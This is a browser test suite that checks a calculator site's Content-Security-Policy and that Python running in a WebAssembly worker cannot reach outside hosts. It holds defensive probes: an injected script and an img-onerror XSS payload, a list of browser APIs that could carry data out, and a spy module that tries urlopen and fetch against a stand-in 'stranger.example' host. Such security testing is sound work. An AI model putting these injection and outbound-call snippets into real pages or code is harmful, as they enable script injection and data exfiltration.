"""What a page may do, and what Python in it may not: nothing that is pasted can leave."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from build_tools.engine import pack
from build_tools.engine.wheel import make_wheel
from tests.browser.conftest import Host
from tests.browser.test_calculator_in_page import PATIENCE_MS, section, settled

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

# What could carry a text out of a worker or keep it there; each is asked for by name from Python (see START).
WAYS_OUT = (
    "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "caches", "indexedDB",
    "BroadcastChannel", "WebTransport",
)  # fmt: skip

# A worker as shipped, with one more line: how Python, or a script that Python got hold of, would try.
START = """
async (how) => {
  const bring = async name => (await fetch(`/made/engine/${name}`)).arrayBuffer();
  const tries = `;const how = ${JSON.stringify(how)};self.addEventListener("message", async ({ data }) => {
    if (typeof data !== "string" || !data.startsWith("try ")) return;
    const [, what] = data.split(" ");
    let found;
    try { found = typeof self[what]; } catch (error) { found = "undefined"; }
    let loaded = "refused";
    try { await import(how.stranger + "404.html"); loaded = "loaded"; } catch (error) { loaded = "refused"; }
    self.postMessage({ kind: "tried", found, loaded });
  });`;
  const its = how.kind === "plain" ? "plain_worker.js" : "worker.js";
  const script = new Blob([await bring(its), how.tries ? tries : ""], { type: "text/javascript" });
  const worker = new Worker(URL.createObjectURL(script));
  const code = how.kind === "plain" ? "pyodide.asm.wasm" : "lean.wasm";
  const wasm = await WebAssembly.compileStreaming(fetch(`/made/engine/${code}`));
  const names = ["python_stdlib.zip", how.name, "pyodide-lock.json"];
  const files = {};
  if (how.kind === "plain") for (const name of names) files[name] = await bring(name);
  if (how.wheel) files[names[1]] = Uint8Array.fromBase64(how.wheel).buffer;
  if (how.lock) files[names[2]] = new TextEncoder().encode(how.lock).buffer;
  worker.postMessage(
    how.kind === "plain" ? { kind: "plain", files } : { kind: "snapshot", memory: await bring("memory.bin") }
  );
  worker.postMessage({ kind: "runtime", wasm });
  const next = () => new Promise(resolve => { worker.onmessage = ({ data }) => resolve(data); });
  const first = await next();
  if (first.kind !== "ready") throw new Error(JSON.stringify(first));
  if (how.kind === "snapshot") {
    const packed = new Response(await bring("memory.rate.bin")).body.pipeThrough(new DecompressionStream("gzip"));
    worker.postMessage({ kind: "bundle", file: await new Response(packed).arrayBuffer() });
  }
  window.send = text => { const answer = next(); worker.postMessage(text); return answer; };
}
"""

# Stands in for the calculators in a plain start, where Python does have JavaScript at hand: tries every way out.
SPY = """
import json

def answer(name, inputs, wanted="", prefix=""):
    import js
    found = getattr(js, name, None)
    try:
        import urllib.request
        urllib.request.urlopen("http://stranger.example/", timeout=2)
        opened = "opened"
    except Exception as error:
        opened = type(error).__name__
    try:
        got = js.eval("fetch('http://stranger.example/')")
        evaluated = str(type(got))
    except Exception as error:
        evaluated = "refused"
    return json.dumps({"found": found is not None, "opened": opened, "evaluated": evaluated})
"""


@pytest.fixture
def service_workers(request: pytest.FixtureRequest) -> str:
    """Kept for offline where the whole of a page is held against its policy."""
    return "allow" if "on_a_page" in request.node.name else "block"


@pytest.fixture
def warm(service_workers: str) -> bool:
    """All that a page does by itself is held against its policy there, too."""
    return service_workers == "allow"


@pytest.fixture
def stranger(bench_folder: Path) -> Iterator[Host]:
    """Another host, which nobody may ask for anything."""
    opened = Host(bench_folder)
    yield opened
    opened.close()
    assert not opened.asked


@pytest.fixture
def blank(context: BrowserContext, host: Host) -> Iterator[Page]:
    """A page under the site's policy with nothing going on in it."""
    page = context.new_page()
    page.goto(f"{host.address}404.html")
    yield page
    page.close()


def test_every_page_carries_a_policy_that_allows_nothing_but_the_sites_own(bench_folder: Path) -> None:
    pages = sorted(bench_folder.rglob("*.html"))
    assert pages
    for path in pages:
        page = path.read_text("utf-8")
        assert page.count('http-equiv="Content-Security-Policy"') == 1, path
        text = page.partition('http-equiv="Content-Security-Policy" content="')[2].partition('"')[0]
        rules = dict(rule.split(" ", 1) for rule in text.split("; "))
        assert rules["default-src"] == "'none'"
        for name, value in rules.items():
            assert "unsafe-inline" not in value, (path, name)
            assert "'unsafe-eval'" not in value, (path, name)
            allowed = {"'self'", "'none'", "data:", "blob:", "'wasm-unsafe-eval'"}
            assert all(each in allowed or each.startswith("'sha256-") for each in value.split()), (path, name, value)
        before = page.partition("<meta http-equiv")[0]
        assert "<script" not in before, f"{path}: something comes before the policy"
        assert "<link" not in before, f"{path}: something comes before the policy"


def test_nothing_on_a_page_is_against_its_policy(visit: Callable[..., Page], context: BrowserContext) -> None:
    context.add_init_script(
        "window.broken = []; document.addEventListener('securitypolicyviolation',"
        " event => window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"
    )
    for path in ("index.html", "answers/bench/one.html", "answers/bench/two.html", "404.html"):
        page = visit(path)
        if page.locator("section.wa-calculator").count():
            page.get_by_label("Rate").first.fill("3600")
            settled(page)
        page.wait_for_timeout(300)
        assert page.evaluate("window.broken") == [], path


def test_a_script_that_does_not_belong_to_the_page_does_not_run(visit: Callable[..., Page]) -> None:
    page = visit()
    page.evaluate(
        "() => { const s = document.createElement('script'); s.text = 'window.bad = 1'; document.body.append(s) }"
    )
    page.evaluate("() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.bad = 2\">') }")
    page.wait_for_timeout(300)
    assert page.evaluate("window.bad") is None


def test_the_worker_has_given_up_every_way_out_and_answers(blank: Page, stranger: Host) -> None:
    blank.evaluate(START, {"kind": "snapshot", "tries": True, "stranger": stranger.address})
    for way in WAYS_OUT:
        tried = blank.evaluate("way => send(`try ${way}`)", way)
        assert tried == {"kind": "tried", "found": "undefined", "loaded": "refused"}, way
        assert not stranger.asked, way
    ask = {"id": 1, "name": "memory.rate", "inputs": "{}", "wanted": "html", "prefix": "p"}
    reply = blank.evaluate("text => send(text)", json.dumps(ask))
    assert "3200" in reply["answer"]


def test_python_of_a_plain_start_finds_no_way_out(
    blank: Page, stranger: Host, bench_folder: Path, tmp_path: Path
) -> None:
    package = tmp_path / "calculators"
    package.mkdir()
    (package / "__init__.py").write_text("", "utf-8")
    (package / "door.py").write_text(SPY.replace("http://stranger.example/", stranger.address), "utf-8")
    name, wheel = make_wheel(package, "1")
    lock = json.loads((bench_folder / "made" / "engine" / pack.LOCK_NAME).read_text("utf-8"))
    lock["packages"]["calculators"] |= {"file_name": name, "sha256": hashlib.sha256(wheel).hexdigest()}
    how = {"kind": "plain", "wheel": base64.b64encode(wheel).decode(), "name": name, "lock": json.dumps(lock)}
    blank.evaluate(START, how)
    for way in WAYS_OUT:
        ask = {"id": 1, "name": way, "inputs": "{}", "wanted": "html", "prefix": "p"}
        reply = json.loads(blank.evaluate("text => send(text)", json.dumps(ask))["answer"])
        assert reply["found"] is False, way
        assert reply["opened"] != "opened", way
        assert reply["evaluated"] == "refused", way
        assert not stranger.asked, way


def test_without_permission_for_webassembly_the_page_says_so(visit: Callable[..., Page], host: Host) -> None:
    host.headers["Content-Security-Policy"] = "script-src 'self' 'unsafe-inline'"
    page = visit()
    page.get_by_label("Rate").fill("3600")
    expect(section(page).locator(".wa-state")).to_contain_text("security policy", timeout=PATIENCE_MS)
